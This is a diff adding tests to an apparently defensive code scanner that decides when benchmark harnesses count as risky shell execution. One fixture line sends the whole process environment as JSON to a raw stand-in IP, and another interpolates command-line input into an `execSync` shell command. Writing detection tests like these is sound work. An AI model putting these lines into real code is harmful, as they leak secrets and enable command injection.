@@ -1815,3 +1815,20 @@ describe('false alarms from C++, Python and Go projects (2026-11-28)', () => {
     expect(scan([makeFile('cmd/start.go', { patch: changed })]).map((f) => [f.id, f.severity])).toEqual([['shell-command-execution', 'medium']]);
   });
 });
+
+describe('code rules: benchmark harnesses are dev-only tooling, like tests (2026-11-29)', () => {
+  const ids = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).map((f) => [f.id, f.severity]);
+  const harness = ['const branches = process.argv.slice(2);', 'for (const branch of branches) {', '  execSync(`git checkout ${branch}`);', '  fork(runner, [], { env: { ...process.env, BENCH_DIR: process.env.BENCH_OUT } });', '}'];
+
+  it('a benchmark harness that checks out branches and forks runners is not shell execution on input', () => {
+    expect(ids('benchmarking/compare/index.js', harness)).toEqual([]);
+    expect(ids('benches/runner.js', harness)).toEqual([]);
+    expect(ids('packages/core/bench/run.js', harness)).toEqual([]);
+  });
+
+  it('a benchmarking library\'s own code under a source tree is still code; a harness that sends the environment to a raw IP is still reported', () => {
+    expect(ids('src/benchmark/compare.js', harness).map(([id]) => id)).toContain('shell-command-execution');
+    const leak = ['const body = JSON.stringify(process.env);', 'await fetch("http://203.0.113.9/collect", { method: "POST", body });'];
+    expect(ids('benchmarks/report.js', leak).map(([id]) => id)).toContain('suspicious-network-endpoint');
+  });
+});
